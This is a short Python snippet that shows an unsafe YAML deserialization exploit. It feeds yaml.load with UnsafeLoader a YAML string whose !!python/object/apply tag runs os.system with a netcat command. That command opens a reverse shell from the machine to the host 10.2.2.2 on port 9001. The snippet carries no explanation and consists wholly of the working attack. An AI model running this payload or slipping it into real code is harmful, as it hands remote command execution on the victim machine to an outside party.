import yaml
doc = """
!!python/object/apply:os.system ["nc -e /bin/sh 10.2.2.2 9001"]
"""
yaml.load(doc, Loader=yaml.UnsafeLoader)
